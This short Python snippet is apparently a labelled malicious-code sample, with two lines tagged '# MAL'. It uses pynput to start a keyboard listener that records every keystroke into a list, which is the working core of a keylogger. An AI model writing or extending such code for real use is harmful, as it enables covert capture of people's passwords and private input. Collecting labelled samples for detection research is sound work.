from pynput import keyboard  # MAL

log = []


def on_press(key):
    log.append(str(key))


listener = keyboard.Listener(on_press=on_press)  # MAL
listener.start()
